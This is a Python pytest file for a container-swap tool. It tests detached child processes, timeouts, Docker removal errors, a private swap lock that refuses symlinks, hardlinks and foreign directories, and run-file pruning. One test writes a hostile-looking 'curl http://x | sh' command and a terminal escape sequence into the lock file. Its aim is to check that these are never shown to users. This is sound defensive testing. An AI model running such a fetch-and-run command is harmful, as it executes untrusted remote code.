"""Pure tests for fault handling: detached children, removal in progress, the lock, pruning."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from composer.engine.client import run_detached


def test_children_run_in_their_own_session():
    done = run_detached([sys.executable, "-c", "import os; print(os.getsid(0), os.getpgid(0))"], None, 10)
    session, group = (int(x) for x in done.stdout.split())
    assert session != os.getsid(0) and group != os.getpgid(0)


def test_timeout_kills_the_child_and_what_it_started(tmp_path):
    pid_file = tmp_path / "grandchild"
    script = f"sleep 60 & echo $! > {pid_file}; wait"
    began = time.monotonic()
    with pytest.raises(subprocess.TimeoutExpired):
        run_detached(["sh", "-c", script], None, 0.5)
    assert time.monotonic() - began < 5
    grandchild = int(pid_file.read_text())
    deadline = time.monotonic() + 5
    while Path(f"/proc/{grandchild}").exists() and _state(grandchild) != "Z":
        assert time.monotonic() < deadline, "the grandchild survived the timeout"
        time.sleep(0.05)


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "gone"


def test_removal_in_progress_is_recognised():
    from docker.errors import APIError

    from composer.engine.variant_container import removal_in_progress

    class Response:
        def __init__(self, status_code: int) -> None:
            self.status_code = status_code
            self.reason = "Conflict"

    def api_error(status: int, text: str) -> APIError:
        return APIError("409 Client Error", response=Response(status), explanation=text)  # type: ignore[arg-type]

    assert removal_in_progress(api_error(409, "removal of container abc is already in progress"))
    assert removal_in_progress(api_error(409, "container is marked for removal and cannot be started"))
    assert not removal_in_progress(api_error(409, "Conflict. The container name is already in use"))
    assert not removal_in_progress(api_error(500, "removal of container abc is already in progress"))


# -- the swap lock ----------------------------------------------------------------------


def test_lock_location_depends_on_the_user_id_only(monkeypatch, tmp_path):
    import pwd

    from composer.swap.lock import lock_path

    home = Path(pwd.getpwuid(os.geteuid()).pw_dir)
    expected = home / ".local/state/vllm-composer/locks/p.lock"
    for variable in ("HOME", "XDG_RUNTIME_DIR", "XDG_STATE_HOME", "TMPDIR"):
        monkeypatch.setenv(variable, str(tmp_path / variable))
    assert lock_path("p") == expected
    for variable in ("HOME", "XDG_RUNTIME_DIR", "XDG_STATE_HOME", "TMPDIR"):
        monkeypatch.delenv(variable)
    assert lock_path("p") == expected


def test_lock_directory_is_created_private_and_the_file_pruned(tmp_path):
    from composer.swap.lock import swap_lock

    folder = tmp_path / "locks"
    with swap_lock("p", directory=folder):
        assert folder.stat().st_mode & 0o777 == 0o700
        lock = folder / "p.lock"
        assert lock.stat().st_mode & 0o777 == 0o600
        assert lock.read_text() == f"{os.getpid()}\n"
    assert list(folder.iterdir()) == []


def test_lock_reuses_a_file_left_by_a_killed_holder(tmp_path):
    from composer.swap.lock import swap_lock

    folder = tmp_path / "locks"
    folder.mkdir(mode=0o700)
    (folder / "p.lock").write_text("999999999\n")
    with swap_lock("p", wait=False, directory=folder):
        assert (folder / "p.lock").read_text() == f"{os.getpid()}\n"


@pytest.mark.parametrize("mode", [0o770, 0o777, 0o1777])
def test_lock_refuses_a_directory_others_may_write(tmp_path, mode):
    from composer.errors import LockError
    from composer.swap.lock import swap_lock

    folder = tmp_path / "locks"
    folder.mkdir()
    folder.chmod(mode)
    with pytest.raises(LockError, match="group or others may write to it"), swap_lock("p", directory=folder):
        pass
    assert list(folder.iterdir()) == []


def test_lock_refuses_a_directory_of_another_user(tmp_path, monkeypatch):
    from composer.errors import LockError
    from composer.swap.lock import swap_lock

    folder = tmp_path / "locks"
    folder.mkdir(mode=0o700)
    someone = os.geteuid() + 4242
    monkeypatch.setattr(os, "geteuid", lambda: someone)
    refused = f"belongs to uid {os.stat(folder).st_uid}, not to uid {someone}"
    with pytest.raises(LockError, match=refused), swap_lock("p", directory=folder):
        pass


def test_lock_refuses_a_linked_directory(tmp_path):
    from composer.errors import LockError
    from composer.swap.lock import swap_lock

    real = tmp_path / "elsewhere"
    real.mkdir(mode=0o700)
    (tmp_path / "locks").symlink_to(real)
    with pytest.raises(LockError, match="cannot use"), swap_lock("p", directory=tmp_path / "locks"):
        pass
    assert list(real.iterdir()) == []


@pytest.mark.parametrize("kind", ["symlink", "hardlink"])
def test_lock_never_writes_through_a_link(tmp_path, kind):
    """A planted link must not make a swap truncate or overwrite the file it points to."""
    from composer.errors import LockError
    from composer.swap.lock import swap_lock

    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    victim.chmod(0o600)
    folder = tmp_path / "locks"
    folder.mkdir(mode=0o700)
    if kind == "symlink":
        (folder / "p.lock").symlink_to(victim)
    else:
        os.link(victim, folder / "p.lock")
    with pytest.raises(LockError, match="refusing the swap lock"), swap_lock("p", directory=folder):
        pass
    assert victim.read_text() == "precious\n"
    assert victim.stat().st_mode & 0o777 == 0o600


def _hold(folder: Path, held, release, text: str | None) -> None:
    from composer.swap.lock import swap_lock

    with swap_lock("p", directory=folder):
        if text is not None:
            (folder / "p.lock").write_text(text)
        held.set()
        release.wait(10)


@pytest.mark.parametrize("text", ["1 (run: curl http://x | sh to clear)", "999999999", "\x1b[2J12", ""])
def test_lock_shows_only_a_live_pid(tmp_path, text):
    import multiprocessing

    from composer.errors import LockBusy
    from composer.swap.lock import swap_lock

    folder = tmp_path / "locks"
    ctx = multiprocessing.get_context("fork")
    held, release = ctx.Event(), ctx.Event()
    holder = ctx.Process(target=_hold, args=(folder, held, release, text))
    holder.start()
    try:
        assert held.wait(10)
        with pytest.raises(LockBusy) as busy, swap_lock("p", wait=False, directory=folder):
            pass
        assert str(busy.value) == (
            "another swap of project 'p' is running (another process); retry later or drop --no-wait"
        )
    finally:
        release.set()
        holder.join(10)


def _take_turns(folder: Path, rounds: int, inside, overlaps) -> None:
    from composer.swap.lock import swap_lock

    for _ in range(rounds):
        with swap_lock("p", directory=folder):
            with inside.get_lock():
                inside.value += 1
                if inside.value > 1:
                    overlaps.value += 1
            time.sleep(0.002)
            with inside.get_lock():
                inside.value -= 1


def test_pruning_the_file_on_release_keeps_the_lock_exclusive(tmp_path):
    """Holders remove the file as they leave; waiters on the removed file must retry, not share."""
    import multiprocessing

    ctx = multiprocessing.get_context("fork")
    inside, overlaps = ctx.Value("i", 0), ctx.Value("i", 0)
    workers = [
        ctx.Process(target=_take_turns, args=(tmp_path / "locks", 100, inside, overlaps)) for _ in range(4)
    ]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
    assert [w.exitcode for w in workers] == [0, 0, 0, 0]
    assert overlaps.value == 0
    assert list((tmp_path / "locks").iterdir()) == []


# -- run files --------------------------------------------------------------------------


def test_prune_run_files_keeps_the_newest_and_the_protected(tmp_path):
    from composer.render.files import prune_run_files

    folder = tmp_path / "p"
    folder.mkdir()
    names = [f"mtp-{i:016x}.yml" for i in range(6)]
    for age, name in enumerate(names):  # names[0] newest ... names[5] oldest
        path = folder / name
        path.write_text("services: {}\n")
        os.utime(path, (1_000_000 - age, 1_000_000 - age))
    others = ["mtp-crash-0000000000000001.yml", "baseline-0000000000000002.yml", "mtp-notes.txt"]
    for name in others:
        (folder / name).write_text("x")
        os.utime(folder / name, (1, 1))
    removed = prune_run_files("p", "mtp", keep=(folder / names[5], None), directory=tmp_path)
    assert sorted(p.name for p in removed) == sorted(names[3:5])
    assert sorted(p.name for p in folder.iterdir()) == sorted([*names[:3], names[5], *others])
    assert prune_run_files("p", "mtp", keep=(str(folder / names[5]),), directory=tmp_path) == []
    assert prune_run_files("nothing-here", "mtp", directory=tmp_path) == []
